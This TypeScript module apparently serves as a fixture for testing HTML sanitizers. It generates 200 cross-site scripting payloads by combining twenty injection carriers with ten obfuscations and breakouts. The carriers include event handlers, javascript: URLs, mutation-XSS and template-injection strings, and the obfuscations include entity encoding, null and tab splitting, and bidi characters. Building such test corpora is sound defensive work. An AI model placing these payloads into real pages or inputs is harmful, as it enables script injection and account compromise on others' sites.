/** Texts that would run a script if they ever became markup: twenty vessels, each written in ten ways. */

const RUN = 'window.ran=1;alert(1)';

const VESSELS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.ran=1;alert(1)</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">read on</a>`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<object data="javascript:${RUN}"></object>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  '<base href="https://elsewhere.example/">',
  '<style>@import "https://elsewhere.example/x.css";*{background:url(https://elsewhere.example/y)}</style>',
  `<link rel="stylesheet" href="https://elsewhere.example/x.css" onload="${RUN}">`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}#{${RUN}}`,
];

const WRITINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => `"><${'/title>'}${text}`,
  (text) => `'>${text}<!--`,
  (text) => `</script>${text}`,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll('"', '&#x22;'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e') + text,
  (text) => text.replace('javascript:', 'java\tscript:').replace('on', '\u0000on'),
  (text) => `\u202e${text}\u2066\u200b`,
];

/** 200, each different. */
export const PAYLOADS: readonly string[] = VESSELS.flatMap((vessel) =>
  WRITINGS.map((write) => write(vessel)),
);
